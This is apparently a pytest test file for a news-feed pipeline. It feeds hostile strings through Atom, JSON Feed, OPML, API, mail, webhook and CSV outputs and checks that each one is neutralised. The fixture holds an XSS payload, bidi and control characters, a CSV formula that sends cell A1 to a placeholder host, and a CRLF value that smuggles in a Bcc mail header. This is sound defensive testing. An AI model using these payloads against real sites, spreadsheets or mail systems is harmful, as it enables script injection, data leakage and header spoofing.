"""What a page may print, on every surface: text stays text, and what cannot be shown is gone."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from pipelines.feeds.alert import body, told
from pipelines.feeds.api.shapes import change_shape, revision_shape
from pipelines.feeds.atom import Place, atom
from pipelines.feeds.channel import speak
from pipelines.feeds.choice import Choice
from pipelines.feeds.entry import entry
from pipelines.feeds.export.columns import COLUMNS, valued
from pipelines.feeds.export.writers import Csv, JsonLines
from pipelines.feeds.jsonfeed import json_feed
from pipelines.feeds.opml import opml
from pipelines.feeds.policy import Policy, policy_of
from pipelines.feeds.words import UNSHOWABLE
from pipelines.news.comparison import Part
from pipelines.news.revision import Change, Kind, Revision
from pipelines.stores.reading import PortalRow
from tests.feeds.receivers import Mailbox
from tests.feeds.rules import check_atom, check_json_feed, check_opml
from tests.feeds.test_marks import change, kept

SCRIPT = "<script>alert('1')</script><img src=x onerror=alert(1)>]]>&amp;--"
TEXTS = {
    "script": SCRIPT,
    "marks that turn the writing": "\u202e开馆\u2066今日\u200f\u061c",
    "control characters": "".join(map(chr, range(0x20))) + "\x7f\x80\x9f开馆",
    "what is no character": "开馆\ufffe\uffff",
    "half of a pair": "开馆\ud800今日\udfff",
    "a formula": '=HYPERLINK("https://x.example?"&A1,"看")',
    "headers of a mail": "开馆\r\nBcc: everybody@yunling.example\r\n\r\n今日",
    "a megabyte": "云岭" * 250_000,
}
FULL: Policy = policy_of("own=full,reserved=full,syndicated=full,unknown=full")
HOME = "https://gaigao.example"


@pytest.fixture(params=TEXTS.values(), ids=TEXTS.keys())
def hostile(request: pytest.FixtureRequest) -> tuple[Change, Revision]:
    """An edit that wrote it everywhere."""
    text: str = request.param
    fields = {
        "headline": text,
        "source": text,
        "rights": text,
        "paragraphs": (text, "甲乙丙丁"),
        "editors": (text,),
    }
    parts = [
        Part(field=field, before="旧稿", after=text, edits=(("-", "旧稿"), ("+", text)))
        for field in ("headline", "paragraphs", "images")
    ]
    return change(Kind.EDITED, *parts, headline=text), kept(**fields)


@pytest.mark.parametrize("policy", [FULL, policy_of("unknown=link")], ids=["full", "link"])
def test_feeds(hostile: tuple[Change, Revision], policy: Policy) -> None:
    text = hostile[0].headline
    told_of = [entry(*hostile, text, HOME, policy)]
    place = Place(home=HOME, choice=Choice(title=text[:100]))
    check_atom(atom(told_of, place))
    (item,) = check_json_feed(json_feed(told_of, place))["items"]
    shown(item["title"])
    assert len(item["title"]) < 300
    shown(item["content_html"], markup=True)
    row = PortalRow(name="x", title=text[:1000], title_en="", province="CN-HL", home="")
    check_opml(opml({"x": row}, {"x": [text[:100]]}, {}, HOME))


def test_api(hostile: tuple[Change, Revision]) -> None:
    told_of, revision = hostile
    for policy in (FULL, policy_of("unknown=link")):
        for shape in (change_shape(told_of, revision, policy), revision_shape(revision, policy, HOME)):
            json.loads(shape.model_dump_json().encode())
            for text in texts(shape.model_dump(mode="json", exclude={"url"})):
                shown(text)


@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated")
def test_mail(hostile: tuple[Change, Revision]) -> None:
    mailbox = Mailbox()
    mailbox.up()
    channel = f"mailto://127.0.0.1:{mailbox.port}/?from=g@yunling.example&to=d@yunling.example&mode=insecure"
    for changes in ([hostile[0]], [hostile[0], replace(hostile[0], id=8)]):
        speak(channel, told(changes, {}, HOME), id_="msg_1_7", allowed_private_hosts=["127.0.0.1"])
        mail = mailbox.received[-1]
        assert mail["Bcc"] is None
        assert len(str(mail["Subject"])) < 300
        part = mail.get_body(("plain",))
        assert part is not None
        shown(str(mail["Subject"]))
        shown(part.get_content().replace("\r\n", "\n"))
    mailbox.down()


def test_webhook(hostile: tuple[Change, Revision]) -> None:
    """Programs get what was printed, as JSON that can be sent."""
    assert json.loads(body([hostile[0]]).encode())["data"]["id"] == 7


def test_json_lines(hostile: tuple[Change, Revision], tmp_path: Path) -> None:
    with JsonLines(tmp_path / "changes", COLUMNS["changes"]) as writer:
        writer.write(valued(COLUMNS["changes"], hostile[0], {}))
    assert json.loads((tmp_path / "changes").read_bytes())["id"] == 7


def test_csv(hostile: tuple[Change, Revision], tmp_path: Path) -> None:
    for what, row in zip(("changes", "revisions"), hostile, strict=True):
        columns = COLUMNS[what]
        with Csv(tmp_path / what, columns) as writer:
            writer.write(valued(columns, row, {}))
        csv.field_size_limit(10_000_000)
        with (tmp_path / what).open(encoding="utf-8-sig", newline="") as file:
            _, cells = csv.reader(file)
        assert len(cells) == len(columns)
        for cell in cells:
            shown(cell)
            assert not cell.lstrip(" \u3000\n").startswith(("=", "+", "-", "@", "\t"))


def shown(text: str, *, markup: bool = False) -> None:
    assert not UNSHOWABLE.search(text)
    if markup:
        assert "<script" not in text
        assert "<img" not in text


def texts(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for one in value.values():
            yield from texts(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts(one)
